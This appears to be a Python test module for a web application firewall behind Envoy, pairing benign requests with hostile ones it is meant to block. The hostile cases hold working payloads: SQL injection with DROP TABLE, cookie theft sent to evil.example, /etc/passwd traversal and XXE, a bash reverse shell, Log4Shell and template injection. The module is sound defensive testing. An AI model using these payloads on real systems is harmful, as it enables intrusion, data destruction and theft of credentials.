"""The tour's requests: each with what Outrider promises for it.

All of them go through Envoy as a client of their own (X-Forwarded-For, with the tour as the one trusted
hop), so that none inherits another's record.
"""

from __future__ import annotations

import http.client
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
TIMEOUT_S = 15.0
RESPONSE_BYTES_MAX = 1 << 20


@dataclass(frozen=True)
class Case:
    """One request. `passes`: whether it is promised to reach the service; status: what the service then
    answers."""

    name: str
    passes: bool
    method: str = "GET"
    target: str = "/"
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    status: int = 200


@dataclass(frozen=True)
class Reply:
    status: int
    headers: dict[str, str]
    body: bytes
    seconds: float


def json_case(
    name: str, passes: bool, target: str, value: object, method: str = "POST", status: int = 200
) -> Case:
    return Case(
        name, passes, method, target, {"content-type": "application/json"}, json.dumps(value).encode(), status
    )


def form_case(name: str, passes: bool, target: str, fields: dict[str, str], status: int = 200) -> Case:
    return Case(
        name,
        passes,
        "POST",
        target,
        {"content-type": "application/x-www-form-urlencoded"},
        urlencode(fields).encode(),
        status,
    )


def query_case(what: str, passes: bool, path: str, /, **fields: str) -> Case:
    return Case(what, passes, "GET", path + "?" + urlencode(fields, quote_via=quote))


SNIPPET = """Nice desk! I sorted my drawers like this:
for (let i = 0; i < drawers.length; i++) {
  if (drawers[i].label === "tools") { keep(drawers[i]); }
}
"""

BENIGN: tuple[Case, ...] = (
    Case("the front page", True),
    query_case("a list, second page", True, "/items", page="2", limit="5"),
    query_case("a search", True, "/search", q="oak chair"),
    query_case("a search with an apostrophe", True, "/search", q="O'Brien's rocking chair"),
    query_case("a search in Greek", True, "/search", q="ξύλινη καρέκλα"),
    query_case(
        "prose that sounds like SQL", True, "/search", q="select a lamp from the catalogue and order by price"
    ),
    Case("one item", True, target="/items/3"),
    Case("a page that doesn't exist", True, target="/items/999", status=404),
    json_case("a login", True, "/login", {"user": "ada", "password": "lovelace-1815"}),
    form_case("a login by form", True, "/login", {"user": "grace", "password": "hopper-1906"}),
    json_case(
        "a new item",
        True,
        "/items",
        {"name": "birch bench", "price": 120.5, "tags": ["garden", "wood"], "size": {"w": 120, "h": 45}},
        status=201,
    ),
    json_case(
        "a comment",
        True,
        "/items/2/comments",
        {"text": "I'd drop the table in the hall; the union of oak & brass is lovely -- really."},
        status=201,
    ),
    json_case("code in a comment", True, "/items/1/comments", {"text": SNIPPET}, status=201),
    json_case(
        "a long comment",
        True,
        "/items/4/comments",
        {"text": "We have had this blanket for three winters now and it still looks new. " * 50},
        status=201,
    ),
)

PADDING = "a perfectly ordinary sentence about chairs. "

HOSTILE: tuple[Case, ...] = (
    query_case(
        "SQL injection in a query", False, "/items", q="' UNION SELECT username, password FROM users-- "
    ),
    json_case(
        "SQL injection in a login (JSON)", False, "/login", {"user": "admin' OR '1'='1' -- ", "password": "x"}
    ),
    form_case(
        "SQL injection in a form",
        False,
        "/login",
        {"user": "x'; DROP TABLE users; SELECT pg_sleep(10)--", "password": "x"},
    ),
    query_case(
        "script in a query", False, "/search", q="<script>fetch('//evil.example/'+document.cookie)</script>"
    ),
    json_case(
        "script in a comment (JSON)",
        False,
        "/items/2/comments",
        {"text": "nice <img src=x onerror=alert(document.domain)>"},
    ),
    query_case("path traversal in a query", False, "/files", name="../../../../../../etc/passwd"),
    Case(
        "path traversal, encoded twice",
        False,
        target="/files?name=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    ),
    form_case(
        "a shell command in a form",
        False,
        "/items",
        {"name": "chair; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
    ),
    Case("Log4Shell in a header", False, headers={"user-agent": "${jndi:ldap://evil.example:1389/a}"}),
    json_case(
        "a template expression in JSON",
        False,
        "/items",
        {"name": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"},
    ),
    Case(
        "an external entity in XML",
        False,
        "POST",
        "/items",
        {"content-type": "application/xml"},
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    ),
    json_case(
        "an attack behind 20 KB of padding",
        False,
        "/items/3/comments",
        {
            "text": PADDING * 460,
            "more": "1' UNION ALL SELECT NULL, table_name FROM information_schema.tables-- ",
        },
    ),
)


def send(port: int, case: Case, client: str) -> Reply:
    """Send one case through Envoy on loopback as that client. OSError or http.client.HTTPException when
    there is no answer."""
    begun = time.perf_counter()
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT_S)
    try:
        headers = {
            "user-agent": BROWSER,
            "accept": "application/json, text/html",
            "accept-language": "en-GB,en",
            **case.headers,
            "x-forwarded-for": client,
        }
        connection.request(case.method, case.target, body=case.body, headers=headers)
        response = connection.getresponse()
        body = response.read(RESPONSE_BYTES_MAX)
        return Reply(
            response.status,
            {k.lower(): v for k, v in response.getheaders()},
            body,
            time.perf_counter() - begun,
        )
    finally:
        connection.close()


def wrong_logins(user: str = "ada") -> Iterator[Case]:
    """A brute-forcing client: one user, password after password."""
    number = 0
    while True:
        number += 1
        yield json_case(
            f"password {number}",
            True,
            "/login",
            {"user": user, "password": f"summer{1900 + number}"},
            status=401,
        )


def orders() -> Iterator[Case]:
    """An enumerating client: other people's orders, one after the other."""
    number = 100
    while True:
        number += 1
        yield Case(f"order {number}", True, target=f"/orders/{number}")
